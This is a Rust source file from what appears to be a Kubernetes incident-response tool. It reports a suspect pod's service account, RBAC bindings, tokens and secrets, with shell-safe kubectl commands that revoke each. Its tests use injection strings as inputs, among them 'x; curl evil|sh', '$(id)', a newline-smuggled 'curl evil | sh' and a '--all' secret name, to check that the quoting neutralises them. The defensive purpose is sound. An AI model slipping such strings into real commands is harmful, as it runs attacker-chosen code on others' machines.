//! What the suspect could act with: its service account and the account's rights, in the cluster and in a cloud,
//! mounted tokens and secrets, each with the command that revokes it. Impound revokes nothing on its own: taking a
//! right away can break what is healthy, and it tells an intruder that he was seen.
//!
//! People copy these commands into a shell, and others choose the names in them: each is one word there.

mod cloud;

use std::collections::BTreeSet;

use k8s_openapi::api::core::v1::{
    EnvFromSource, EnvVar, Pod, ServiceAccount, ServiceAccountTokenProjection, Volume,
};
use k8s_openapi::api::rbac::v1::{ClusterRoleBinding, RoleBinding, RoleRef, Subject};
use kube::Client;

use super::observe::{ObserveError, list, typed};
use crate::describe::describe;
use crate::kubernetes::{is_object_name, read};
use crate::resources::Credential;

/// Kinds of the entries that stand for what could not be read. No other entry has one: what an entry says is not told
/// by its words, which others may have chosen.
const UNREAD: [&str; 2] = ["CloudIdentities", "Bindings"];

/// How many parts of a report could not be read.
#[must_use]
pub fn unread(report: &[Credential]) -> usize {
    let unread = report.iter();
    unread
        .filter(|one| UNREAD.contains(&one.kind.as_str()))
        .count()
}

/// Whether a report is to take the place of the one that is known: the first, or one in which more could be read.
#[must_use]
pub fn is_better(report: &[Credential], known: &[Credential]) -> bool {
    known.is_empty() || unread(report) < unread(known)
}

/// Lists the credentials of a pod. What can't be read becomes an entry that says so.
pub async fn report(client: &Client, pod: &Pod) -> Vec<Credential> {
    let namespace = pod.metadata.namespace.as_deref().unwrap_or_default();
    let account = account(pod);
    let mut found = tokens(pod, namespace, &account);
    if found.is_empty() {
        found.push(without_token(namespace, &account));
    }
    let (known, bindings) = futures::join!(
        service_account(client, namespace, &account),
        bindings(client, namespace, &account)
    );
    let [no_identities, no_bindings] = UNREAD;
    if let Err(error) = &known {
        found.push(Credential {
            kind: no_identities.into(),
            name: format!("{namespace}/{account}"),
            grants: format!(
                "what the account is to a cloud, and Secrets that hold tokens of it, could not be read: {}",
                describe(error)
            ),
            revoke: format!("kubectl get serviceaccount {account} -n {namespace} -o yaml"),
        });
    }
    let known = known.ok().flatten();
    let of = (namespace, account.as_str());
    found.extend(cloud::identities(pod, of, known.as_ref()));
    found.extend(lasting_tokens(of, known.as_ref()));
    match bindings {
        Ok(bindings) => found.extend(bindings),
        Err(error) => found.push(Credential {
            kind: no_bindings.into(),
            name: format!("{namespace}/{account}"),
            grants: format!("could not be read: {}", describe(&error)),
            revoke: format!(
                "kubectl get rolebindings,clusterrolebindings -A -o wide | grep {namespace}/{account}"
            ),
        }),
    }
    found.extend(secrets(pod, namespace));
    found
}

fn account(pod: &Pod) -> String {
    let account = pod
        .spec
        .as_ref()
        .and_then(|spec| spec.service_account_name.clone());
    account
        .filter(|account| !account.is_empty())
        .unwrap_or_else(|| "default".into())
}

/// The account, if it is there.
async fn service_account(
    client: &Client,
    namespace: &str,
    account: &str,
) -> Result<Option<ServiceAccount>, ObserveError> {
    if !is_object_name(account) {
        return Ok(None);
    }
    let path = format!("/api/v1/namespaces/{namespace}/serviceaccounts/{account}");
    let found = read(client, &path).await?;
    found
        .map(|found| typed(&path, "ServiceAccount", found))
        .transpose()
}

/// Secrets that the account names as its own: of the type `kubernetes.io/service-account-token` such a one holds a
/// token that never ends.
fn lasting_tokens(
    (namespace, name): (&str, &str),
    account: Option<&ServiceAccount>,
) -> Vec<Credential> {
    let secrets = account.and_then(|account| account.secrets.as_ref());
    let names = secrets
        .into_iter()
        .flatten()
        .filter_map(|secret| secret.name.as_deref());
    names
        .map(|secret| Credential {
            kind: "Secret".into(),
            name: secret.to_owned(),
            grants: format!(
                "whom service account {namespace}/{name} is at the Kubernetes API, for ever: the account names it as its \
                 own, and if it holds a token, whoever has read it needs no pod"
            ),
            revoke: format!("{} -n {namespace}", delete("secret", secret)),
        })
        .collect()
}

/// The tokens that are projected into the pod's volumes.
fn projected(pod: &Pod) -> impl Iterator<Item = &ServiceAccountTokenProjection> {
    let volumes = pod
        .spec
        .iter()
        .flat_map(|spec| spec.volumes.iter().flatten());
    let sources = volumes.filter_map(|volume| volume.projected.as_ref()?.sources.as_ref());
    sources
        .flatten()
        .filter_map(|source| source.service_account_token.as_ref())
}

/// The environments of the pod's containers.
fn environments(
    pod: &Pod,
) -> impl Iterator<Item = (Option<&Vec<EnvVar>>, Option<&Vec<EnvFromSource>>)> {
    let spec = pod.spec.iter();
    spec.flat_map(|spec| {
        let containers = spec
            .init_containers
            .iter()
            .flatten()
            .chain(&spec.containers);
        let ephemeral = spec.ephemeral_containers.iter().flatten();
        let containers =
            containers.map(|container| (container.env.as_ref(), container.env_from.as_ref()));
        let ephemeral =
            ephemeral.map(|container| (container.env.as_ref(), container.env_from.as_ref()));
        containers.chain(ephemeral)
    })
}

/// The command that deletes an object of a kind whose names may be almost anything.
fn delete(kind: &str, name: &str) -> String {
    match name.starts_with('-') {
        // Else it would be an option, and `--all` is one.
        true => format!("kubectl delete {}", quoted(&format!("{kind}/{name}"))),
        false => format!("kubectl delete {kind} {}", quoted(name)),
    }
}

/// One word of a shell's, whatever is in it.
fn quoted(text: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_.:/@%+=,".contains(&byte);
    if !text.is_empty() && text.bytes().all(plain) {
        return text.to_owned();
    }
    format!("'{}'", text.replace('\'', r"'\''"))
}

/// What a line break would end, with each control character as its escape: behind it a comment would be a command.
fn on_one_line(text: &str) -> String {
    let escaped = |character: char| match character.is_control() {
        true => character.escape_default().to_string(),
        false => character.to_string(),
    };
    text.chars().map(escaped).collect()
}

/// Tokens are projected into volumes; each names its audience and life.
fn tokens(pod: &Pod, namespace: &str, account: &str) -> Vec<Credential> {
    projected(pod)
        .map(|token| Credential {
            kind: "Token".into(),
            name: format!("{namespace}/{account}"),
            grants: format!(
                "token for {}, renewed by the kubelet, each valid for {} s",
                token.audience.as_deref().map_or_else(
                    || "the Kubernetes API".to_owned(),
                    |audience| format!("audience {audience}")
                ),
                token.expiration_seconds.unwrap_or(3600)
            ),
            // A bound token ends with its pod or its account, and with nothing else.
            revoke: delete_account(namespace, account),
        })
        .collect()
}

/// The account of a pod into which no token of it is projected: its rights are reported all the same.
fn without_token(namespace: &str, account: &str) -> Credential {
    Credential {
        kind: "ServiceAccount".into(),
        name: format!("{namespace}/{account}"),
        grants: "whom the pod is at the Kubernetes API; no token of it is projected into the pod, so its rights are the \
                 suspect's only if it got one elsewhere"
            .into(),
        revoke: delete_account(namespace, account),
    }
}

fn delete_account(namespace: &str, account: &str) -> String {
    format!(
        "kubectl delete serviceaccount {account} -n {namespace}  # ends all its tokens, those in Secrets too, and takes \
         it from every other pod of the account"
    )
}

async fn bindings(
    client: &Client,
    namespace: &str,
    account: &str,
) -> Result<Vec<Credential>, ObserveError> {
    let path = "/apis/rbac.authorization.k8s.io/v1";
    // Any namespace can give the account rights in itself.
    let local = format!("{path}/rolebindings");
    let global = format!("{path}/clusterrolebindings");
    let (local, global) = futures::try_join!(
        list::<RoleBinding>(client, &local),
        list::<ClusterRoleBinding>(client, &global)
    )?;
    let local = local.iter().filter_map(|binding| {
        let own = binding.metadata.namespace.as_deref().unwrap_or_default();
        let held = Held::of(binding.subjects.as_ref(), own, namespace, account)?;
        let name = binding.metadata.name.clone().unwrap_or_default();
        Some(Credential {
            kind: "RoleBinding".into(),
            grants: format!("{} in namespace {own}", role(&binding.role_ref)),
            revoke: held.revoke(&format!("{} -n {own}", delete("rolebinding", &name))),
            name,
        })
    });
    let global = global.iter().filter_map(|binding| {
        let held = Held::of(binding.subjects.as_ref(), "", namespace, account)?;
        let name = binding.metadata.name.clone().unwrap_or_default();
        Some(Credential {
            kind: "ClusterRoleBinding".into(),
            grants: format!("{} in the whole cluster", role(&binding.role_ref)),
            revoke: held.revoke(&delete("clusterrolebinding", &name)),
            name,
        })
    });
    Ok(local.chain(global).collect())
}

/// How an account comes by what a binding gives.
#[derive(Debug, PartialEq)]
struct Held {
    /// The group through which alone it does: one that others are in too.
    group: Option<String>,
    /// Who else has it by the same binding.
    others: Vec<String>,
}

impl Held {
    /// `None` if no subject is the account or a group that it is in. A subject without a namespace is of
    /// the binding's.
    fn of(
        subjects: Option<&Vec<Subject>>,
        binding_namespace: &str,
        namespace: &str,
        account: &str,
    ) -> Option<Self> {
        let user = format!("system:serviceaccount:{namespace}:{account}");
        let wide = [
            format!("system:serviceaccounts:{namespace}"),
            "system:serviceaccounts".into(),
            "system:authenticated".into(),
            // Also who shows no token.
            "system:unauthenticated".into(),
        ];
        let (mut itself, mut group, mut others) = (false, None, Vec::new());
        for subject in subjects.into_iter().flatten() {
            let of = subject.namespace.as_deref().unwrap_or(binding_namespace);
            match subject.kind.as_str() {
                "ServiceAccount" if subject.name == account && of == namespace => itself = true,
                "User" if subject.name == user => itself = true,
                "Group" if wide.contains(&subject.name) => {
                    group.get_or_insert_with(|| subject.name.clone());
                    others.push(format!("group {}", subject.name));
                }
                "ServiceAccount" => others.push(format!("service account {of}/{}", subject.name)),
                kind => others.push(format!("{} {}", kind.to_lowercase(), subject.name)),
            }
        }
        if itself {
            return Some(Self {
                group: None,
                others,
            });
        }
        group.map(|group| Self {
            group: Some(group),
            others,
        })
    }

    /// The command that takes it away, with what else that does. What a whole group has is not taken away for
    /// one account: it would hit everybody.
    fn revoke(&self, command: &str) -> String {
        match &self.group {
            Some(group) => format!(
                "no command: the right is that of group {group}, and deleting the binding would take it from \
                 all who are in it; give them it by other bindings first"
            ),
            None if self.others.is_empty() => command.to_owned(),
            None => format!(
                "{command}  # takes it from {} too",
                on_one_line(&self.others.join(", "))
            ),
        }
    }
}

fn role(reference: &RoleRef) -> String {
    format!("{} {}", reference.kind, reference.name)
}

fn secrets(pod: &Pod, namespace: &str) -> Vec<Credential> {
    let Some(spec) = &pod.spec else {
        return Vec::new();
    };
    let mounted = spec.volumes.iter().flatten().flat_map(|volume| {
        let secret = volume.secret.as_ref();
        let whole = secret.and_then(|secret| secret.secret_name.clone());
        let projected = volume.projected.iter().flat_map(|projected| {
            let sources = projected.sources.iter().flatten();
            sources.filter_map(|source| Some(source.secret.as_ref()?.name.clone()))
        });
        whole.into_iter().chain(projected)
    });
    let mut found: BTreeSet<(String, &str)> =
        mounted.map(|name| (name, "mounted as files")).collect();
    found.extend(
        environments(pod)
            .flat_map(|(single, whole)| from_environment(single, whole))
            .map(|name| (name, "in the environment")),
    );
    found.extend(
        spec.volumes
            .iter()
            .flatten()
            .filter_map(to_mount)
            .map(|name| (name, "used to mount a volume")),
    );
    found.extend(
        spec.image_pull_secrets
            .iter()
            .flatten()
            .map(|secret| (secret.name.clone(), "used to pull images")),
    );
    found
        .into_iter()
        .map(|(name, how)| Credential {
            kind: "Secret".into(),
            grants: format!("what it is a key to; {how}, so {}", whose(how)),
            revoke: format!(
                "revoke it where it was issued, then: {} -n {namespace}",
                delete("secret", &name)
            ),
            name,
        })
        .collect()
}

/// What the kubelet uses on the pod's behalf is on the node, not in the pod.
fn whose(how: &str) -> &'static str {
    match how {
        "mounted as files" | "in the environment" => "the suspect has read it",
        _ => "its node has it",
    }
}

/// The secret by which the kubelet mounts a volume.
fn to_mount(volume: &Volume) -> Option<String> {
    let local = [
        volume
            .csi
            .as_ref()
            .and_then(|csi| csi.node_publish_secret_ref.as_ref()),
        volume
            .cephfs
            .as_ref()
            .and_then(|ceph| ceph.secret_ref.as_ref()),
        volume
            .cinder
            .as_ref()
            .and_then(|cinder| cinder.secret_ref.as_ref()),
        volume
            .flex_volume
            .as_ref()
            .and_then(|flex| flex.secret_ref.as_ref()),
        volume
            .iscsi
            .as_ref()
            .and_then(|iscsi| iscsi.secret_ref.as_ref()),
        volume.rbd.as_ref().and_then(|rbd| rbd.secret_ref.as_ref()),
        volume.scale_io.as_ref().map(|scale| &scale.secret_ref),
        volume
            .storageos
            .as_ref()
            .and_then(|storage| storage.secret_ref.as_ref()),
    ];
    let azure = volume.azure_file.as_ref();
    let local = local.into_iter().flatten().next();
    local
        .map(|secret| secret.name.clone())
        .or_else(|| azure.map(|azure| azure.secret_name.clone()))
}

fn from_environment(
    single: Option<&Vec<EnvVar>>,
    whole: Option<&Vec<EnvFromSource>>,
) -> Vec<String> {
    let single = single.into_iter().flatten().filter_map(|variable| {
        let source = variable.value_from.as_ref()?;
        Some(source.secret_key_ref.as_ref()?.name.clone())
    });
    let whole = whole
        .into_iter()
        .flatten()
        .filter_map(|source| Some(source.secret_ref.as_ref()?.name.clone()));
    single.chain(whole).collect()
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn every_way_a_secret_reaches_a_container_is_reported_once() {
        let pod: Pod = serde_json::from_value(json!({
            "metadata": { "namespace": "shop" },
            "spec": {
                "volumes": [
                    { "name": "a", "secret": { "secretName": "tls" } },
                    { "name": "b", "projected": { "sources": [
                        { "secret": { "name": "api-key" } },
                        { "serviceAccountToken": { "path": "token", "audience": "vault", "expirationSeconds": 600 } } ] } },
                    { "name": "e", "csi": { "driver": "d", "nodePublishSecretRef": { "name": "csi" } } },
                    { "name": "f", "azureFile": { "secretName": "azure", "shareName": "s" } },
                ],
                "imagePullSecrets": [{ "name": "registry" }],
                "initContainers": [{ "name": "i", "envFrom": [{ "secretRef": { "name": "bulk" } }] }],
                "containers": [{ "name": "c", "env": [
                    { "name": "P", "valueFrom": { "secretKeyRef": { "name": "db", "key": "password" } } },
                    { "name": "Q", "valueFrom": { "secretKeyRef": { "name": "db", "key": "user" } } } ] }],
                "ephemeralContainers": [
                    { "name": "d", "envFrom": [{ "secretRef": { "name": "debug" } }],
                        "env": [{ "name": "R", "valueFrom": { "secretKeyRef": { "name": "db", "key": "root" } } }] }],
            },
        }))
        .unwrap();
        let found = secrets(&pod, "shop");
        let names: Vec<&str> = found.iter().map(|secret| secret.name.as_str()).collect();
        assert_eq!(
            names,
            [
                "api-key", "azure", "bulk", "csi", "db", "debug", "registry", "tls"
            ]
        );
        let read = found
            .iter()
            .filter(|one| one.grants.ends_with("the suspect has read it"));
        assert_eq!(read.count(), 5, "{found:#?}");
        let tokens = tokens(&pod, "shop", &account(&pod));
        assert_eq!(tokens.len(), 1);
        assert!(tokens[0].grants.contains("audience vault") && tokens[0].grants.contains("600 s"));
    }

    fn subject(kind: &str, name: &str, namespace: Option<&str>) -> Subject {
        Subject {
            kind: kind.into(),
            name: name.into(),
            namespace: namespace.map(Into::into),
            ..Subject::default()
        }
    }

    fn held(subjects: Vec<Subject>) -> Option<String> {
        let held = Held::of(Some(&subjects), "prod", "shop", "web")?;
        Some(held.revoke("kubectl delete rolebinding b -n prod"))
    }

    #[test]
    fn a_secret_that_the_account_names_as_its_own_is_reported_as_a_token_without_end() {
        let account =
            serde_json::from_value(json!({ "secrets": [{ "name": "web-token" }] })).unwrap();
        let found = lasting_tokens(("shop", "web"), Some(&account));
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].revoke, "kubectl delete secret web-token -n shop");
        assert!(found[0].grants.contains("shop/web"), "{found:#?}");
    }

    fn of_kind(kind: &str) -> Credential {
        let nothing = String::new;
        Credential {
            kind: kind.into(),
            name: nothing(),
            grants: nothing(),
            revoke: nothing(),
        }
    }

    #[test]
    fn what_somebody_called_a_tokens_audience_makes_no_report_partial() {
        let pod: Pod = serde_json::from_value(json!({ "spec": { "containers": [], "volumes": [{
            "name": "t", "projected": { "sources": [
                { "serviceAccountToken": { "path": "token", "audience": "could not be read" } } ] } }] } }))
        .unwrap();
        let found = tokens(&pod, "shop", "web");
        assert_eq!((found.len(), unread(&found)), (1, 0), "{found:#?}");
    }

    #[test]
    fn a_report_takes_the_place_of_another_only_if_more_of_it_could_be_read() {
        let [all, less, least]: [&[Credential]; 3] = [
            &[of_kind("Token"), of_kind("RoleBinding")],
            &[of_kind("Token"), of_kind("Bindings")],
            &[of_kind("CloudIdentities"), of_kind("Bindings")],
        ];
        assert!(is_better(least, &[]));
        assert!(is_better(all, less) && is_better(less, least));
        assert!(!is_better(less, all) && !is_better(least, less) && !is_better(less, less));
    }

    #[test]
    fn a_secrets_name_that_would_be_an_option_deletes_no_other_secret() {
        let name = "--all";
        let pod: Pod = serde_json::from_value(json!({ "spec": {
            "volumes": [{ "name": "a", "secret": { "secretName": name } }], "containers": [],
        } }))
        .unwrap();
        let account = serde_json::from_value(json!({ "secrets": [{ "name": name }] })).unwrap();
        let mut found = secrets(&pod, "shop");
        found.extend(lasting_tokens(("shop", "web"), Some(&account)));
        assert_eq!(found.len(), 2, "{found:#?}");
        for one in found {
            let command = "kubectl delete secret/--all -n shop";
            assert!(one.revoke.ends_with(command), "{one:#?}");
        }
    }

    #[test]
    fn what_others_named_is_one_word_of_the_command() {
        for (name, word) in [
            ("system:web-1.x", "system:web-1.x"),
            ("x; curl evil|sh", "'x; curl evil|sh'"),
            ("$(id)", "'$(id)'"),
            ("it's", r"'it'\''s'"),
            ("", "''"),
        ] {
            assert_eq!(quoted(name), word);
        }
        let all = delete("rolebinding", "--all");
        assert_eq!(all, "kubectl delete rolebinding/--all");
    }

    #[test]
    fn a_binding_counts_for_the_account_and_its_user_name_wherever_it_is() {
        let delete = "kubectl delete rolebinding b -n prod".to_owned();
        for (subject, expected) in [
            (subject("ServiceAccount", "web", Some("shop")), true),
            (subject("ServiceAccount", "web", Some("other")), false),
            // Without a namespace it is one of the binding's own.
            (subject("ServiceAccount", "web", None), false),
            (subject("ServiceAccount", "other", Some("shop")), false),
            (
                subject("User", "system:serviceaccount:shop:web", None),
                true,
            ),
            (subject("User", "system:serviceaccount:shop:x", None), false),
            (subject("Group", "system:serviceaccounts:x", None), false),
            (subject("Group", "admins", None), false),
        ] {
            let found = held(vec![subject.clone()]);
            assert_eq!(found, expected.then(|| delete.clone()), "{subject:?}");
        }
        let here = vec![subject("ServiceAccount", "web", None)];
        assert!(Held::of(Some(&here), "shop", "shop", "web").is_some());
    }

    #[test]
    fn what_a_whole_group_has_is_reported_without_a_command_that_would_take_it_from_everybody() {
        for group in [
            "system:serviceaccounts:shop",
            "system:serviceaccounts",
            "system:authenticated",
            "system:unauthenticated",
        ] {
            let said = held(vec![subject("Group", group, None)]).unwrap();
            assert!(said.contains(group) && !said.contains("kubectl"), "{said}");
        }
    }

    #[test]
    fn whom_a_binding_names_ends_no_comment() {
        let said = held(vec![
            subject("ServiceAccount", "web", Some("shop")),
            subject("User", "x\ncurl evil | sh", None),
        ]);
        let said = said.unwrap();
        assert!(
            said.ends_with(r"# takes it from user x\ncurl evil | sh too"),
            "{said}"
        );
        assert_eq!(said.lines().count(), 1);
    }

    #[test]
    fn a_command_says_who_else_loses_the_right() {
        let said = held(vec![
            subject("ServiceAccount", "web", Some("shop")),
            subject("ServiceAccount", "db", Some("shop")),
            subject("ServiceAccount", "job", None),
            subject("User", "jane", None),
            subject("Group", "system:authenticated", None),
        ]);
        assert_eq!(
            said.unwrap(),
            "kubectl delete rolebinding b -n prod  # takes it from service account shop/db, service account \
             prod/job, user jane, group system:authenticated too"
        );
    }
}
